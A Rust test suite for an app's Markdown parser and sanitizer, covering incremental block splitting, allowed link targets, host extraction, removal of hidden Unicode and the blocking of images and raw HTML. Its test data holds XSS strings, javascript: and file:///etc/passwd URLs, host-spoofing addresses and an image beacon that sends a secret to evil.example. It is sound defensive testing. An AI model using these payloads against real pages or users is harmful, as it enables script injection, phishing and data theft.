#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use contract::{PersonId, ProjectId, RecordingId};

use super::clean::shown;
use super::parse::{Block, Span, parse, words};
use super::split::Growing;
use super::target::{Target, says_host, target_of};
use crate::state::Route;

const DOCUMENTS: &[&str] = &[
    "",
    "One line",
    "# Head\n\nA paragraph that\ngoes on.\n\n- one\n- two\n\n  more of two\n- three\n\nThe end.\n",
    "1. a\n\n2. b\n\n10. c\n\nAnd so.\n\n- x\n    - y\n        - z\n\nlast",
    "```rust\nfn main() {\n\n    // - not a list\n}\n```\n\nafter\n\n~~~\n```\n~~~\n",
    "| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\n\nafter the table\n\n> quoted\nlazy\n>\n> - in it\n\nend\n",
    "para\n- item right behind\n- [x] done\n- [ ] open\n\n***\n\nHead\n====\nHead two\n---\n\n    indented\n\n    still\n\nend",
    "<div>\nraw <b>html</b>\n</div>\n\ntext <script>alert(1)</script> text\n\n<!-- a comment\n\nover lines -->\n\nend\n",
    "unfinished ```code\n\n```\nnever closed\n\n- and\n",
    "Größe 日本語 👩‍👩‍👧\n\n**bold** and *stress* and ~~gone~~ and `code`\n\n[a](https://example.com) ![i](https://evil.example/x.png)\n",
    "\n\n\nstarts late\n\n\n\nand goes on\r\n\r\nwith other ends\r\n",
    "- a\n\n\n- b\n1. c\n+ d\n\n  e\n\n   f\n\n2\n\n2.\n\n2. g\n",
    "> > > deep\n> > less\n\n* * *\n- - -\n\n[x]\n\na\\\nb  \nc\n",
];

/// Documents put together from lines that mean something at the beginning of a line.
fn random_documents() -> Vec<String> {
    const LINES: &[&str] = &[
        "",
        "",
        "",
        "text",
        "- a",
        "- b",
        "  - c",
        "1. d",
        "2. e",
        "   f",
        "    g",
        "> h",
        "```",
        "~~~",
        "# i",
        "---",
        "===",
        "| j | k |",
        "|---|---|",
        "| l | m |",
        "<p>",
        "</p>",
        "*",
        "1",
        "1.",
        "***",
        "\tn",
        "- [ ] o",
        "[p](item:1)",
        "- ",
        "+",
        "<!--",
        "-->",
    ];
    let mut dice = 0x2545_f491_4f6c_dd1d_u64;
    (0..400)
        .map(|_| {
            let mut document = String::new();
            for _ in 0..14 {
                dice ^= dice << 13;
                dice ^= dice >> 7;
                dice ^= dice << 17;
                document.push_str(LINES[usize::try_from(dice % LINES.len() as u64).unwrap()]);
                document.push('\n');
            }
            document
        })
        .collect()
}

fn documents() -> Vec<String> {
    DOCUMENTS.iter().map(|text| (*text).to_owned()).chain(random_documents()).collect()
}

#[test]
fn a_finished_block_never_changes_while_the_text_grows() {
    for text in documents() {
        let mut growing = Growing::default();
        let mut blocks: Vec<String> = Vec::new();
        for (at, _) in text.char_indices().skip(1).chain([(text.len(), ' ')]) {
            growing.take(&text[..at]);
            let now: Vec<String> = (0..growing.finished()).map(|at| growing.block(at).to_owned()).collect();
            assert_eq!(now.get(..blocks.len()), Some(blocks.as_slice()), "changed by the prefix {:?}", &text[..at]);
            assert_eq!(now.concat() + growing.open(), text[..at], "something was lost");
            blocks = now;
        }
        // However it came in, the same blocks.
        let mut at_once = Growing::default();
        at_once.take(&text);
        assert_eq!(at_once.finished(), blocks.len(), "in {text:?}");
    }
}

#[test]
fn blocks_read_alone_are_what_the_whole_is() {
    for text in documents() {
        let mut growing = Growing::default();
        growing.take(&text);
        let alone: Vec<Block> =
            (0..growing.finished()).map(|at| growing.block(at)).chain([growing.open()]).flat_map(parse).collect();
        assert_eq!(alone, parse(&text), "of {text:?}");
    }
}

#[test]
fn another_text_begins_anew() {
    let mut growing = Growing::default();
    growing.take("one\n\ntwo\n\nthree");
    assert_eq!(growing.finished(), 1, "the line that still grows proves nothing");
    assert_eq!(growing.take("none\n\nof it\n"), 0);
    assert_eq!((growing.finished(), growing.block(0), growing.open()), (1, "none\n\n", "of it\n"));
}

fn link(text: &str) -> Option<Target> {
    fn find(spans: &[Span]) -> Option<Target> {
        spans.iter().find_map(|span| match span {
            Span::Link(target, _) => Some(target.clone()),
            Span::Strong(spans) | Span::Stress(spans) | Span::Struck(spans) => find(spans),
            Span::Text(_) | Span::Code(_) | Span::Break => None,
        })
    }
    parse(text).iter().find_map(|block| match block {
        Block::Paragraph(spans) | Block::Heading(_, spans) => find(spans),
        Block::List { .. } | Block::Code { .. } | Block::Quote(_) | Block::Table { .. } | Block::Rule => None,
    })
}

#[test]
fn links_lead_to_places_of_the_app_and_to_the_web_and_nowhere_else() {
    assert_eq!(link("[a](item:12)"), Some(Target::Item(RecordingId(12))));
    assert_eq!(link("[a](item:-3)"), Some(Target::Item(RecordingId(-3))));
    assert_eq!(link("[a](project:9007199254740993)"), Some(Target::Project(ProjectId(9_007_199_254_740_993))));
    assert_eq!(link("[a](person:4)"), Some(Target::Person(PersonId(4))));
    assert_eq!(link("[a](screen:today)"), Some(Target::Screen(Route::Today)));
    assert!(matches!(link("[a](https://example.com/x)"), Some(Target::Outside { host, .. }) if host == "example.com"));
    for bad in [
        "item:12x",
        "item:",
        "item:+1",
        "item:1 2",
        "item:1\u{200b}2",
        "item:99999999999999999999",
        "project:../1",
        "screen:attic",
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "vbscript:x",
        "//example.com",
        "/today",
        "#/settings",
        "https:example.com",
        "https://",
        "https:///x",
        "http://@/",
        "https://good.example\\@evil.example",
        "https://exa\u{202e}mple.com",
        "mailto:nobody",
        "pmos://open",
        "ftp://example.com",
        "",
    ] {
        assert_eq!(target_of(bad), None, "{bad:?} leads somewhere");
        // Markdown takes the stroke out of `\\@`: what is left is told for what it is.
        if !bad.contains('\\') {
            assert_eq!(link(&format!("[words](<{bad}>)")), None, "{bad:?} is a link");
        }
    }
    assert_eq!(words(&parse("[words](javascript:x)")).trim(), "words", "the words stay");
}

#[test]
fn the_host_is_where_a_browser_would_go() {
    for (address, expected) in [
        ("https://bank.example@evil.example/", "evil.example"),
        ("https://EVIL.example:8443/x", "evil.example:8443"),
        ("http://evil.example#bank.example", "evil.example"),
        ("http://evil.example?bank.example", "evil.example"),
        ("mailto:a@b.example?subject=x", "a@b.example"),
    ] {
        assert!(matches!(target_of(address), Some(Target::Outside { host, .. }) if host == expected), "{address}");
    }
    assert!(says_host("example.com", "example.com"));
    assert!(says_host(" https://example.com/a ", "example.com"));
    for lie in ["the docs", "example.com.evil.example", "https://bank.example", "example.com (safe)", ""] {
        assert!(!says_host(lie, "example.com"), "{lie}");
    }
}

#[test]
fn no_image_and_no_html_comes_through() {
    let image = parse("![a cat](https://evil.example/beacon?d=secret)");
    let Block::Paragraph(spans) = &image[0] else { panic!("{image:?}") };
    let Span::Link(Target::Outside { host, .. }, inside) = &spans[0] else { panic!("{spans:?}") };
    assert_eq!(host, "evil.example");
    assert_eq!(inside, &[Span::Text("Image: a cat".into())]);
    assert_eq!(words(&parse("![a cat](data:image/png;base64,x)")).trim(), "Image: a cat");
    for html in
        ["<img src=x onerror=alert(1)>", "<div>\n<script>alert(1)</script>\n</div>", "a <b>c</b> <iframe src=x>"]
    {
        let read = words(&parse(html));
        assert!(read.contains('<') && read.contains('>'), "{html} is shown as it is: {read}");
    }
}

#[test]
fn what_cannot_be_seen_is_told_or_goes() {
    assert_eq!(shown("plain 日本 é \n\t"), "plain 日本 é \n\t");
    assert_eq!(shown("a\u{202e}b"), "a⟦hidden⟧b");
    assert_eq!(shown("a\u{e0041}\u{e0042}\u{e0043}"), "a⟦3 hidden⟧");
    assert_eq!(shown("al\u{200b}low\u{feff} \u{ad}it\r\n"), "allow it\n");
    assert_eq!(shown("x\u{200d}y"), "xy");
    assert_eq!(shown("👩\u{200d}👧"), "👩\u{200d}👧", "emoji stay whole");
    assert_eq!(shown("می\u{200c}خواهم"), "می\u{200c}خواهم", "so do scripts that need it");
    assert_eq!(shown("1\u{fe0f}\u{20e3}"), "1\u{fe0f}\u{20e3}");
    assert_eq!(shown("\u{1b}[31m"), "⟦hidden⟧[31m");
    let texts = parse("a\u{202e}b `c\u{2066}d`\n\n```\ne\u{200b}f\u{202a}\n```\n");
    let read = words(&texts);
    assert!(!read.contains(['\u{202e}', '\u{2066}', '\u{200b}', '\u{202a}']), "{read:?}");
    assert_eq!(read.matches("⟦hidden⟧").count(), 3, "{read}");
}

#[test]
fn depth_does_not_exhaust_the_page() {
    for deep in ["> ".repeat(2_000) + "x", "- ".repeat(2_000) + "x", "*".repeat(3_000) + "x" + &"*".repeat(3_000)] {
        assert!(words(&parse(&deep)).contains('x'));
    }
}

#[test]
fn lists_tables_and_code_are_read() {
    let read =
        parse("3. a\n4. b\n\n- [x] c\n- [ ] d\n\n| h | n |\n|---|--:|\n| e | 5 |\n\n```sql what\nselect 1\n```\n");
    let [
        Block::List { start: Some(3), items },
        Block::List { start: None, items: tasks },
        Block::Table { head, rows, right },
        Block::Code { language, text },
    ] = read.as_slice()
    else {
        panic!("{read:?}")
    };
    assert_eq!((items.len(), tasks[0].done, tasks[1].done), (2, Some(true), Some(false)));
    assert_eq!((head.len(), rows.len(), right.as_slice()), (2, 1, [false, true].as_slice()));
    assert_eq!((language.as_str(), text.as_str()), ("sql", "select 1"));
}
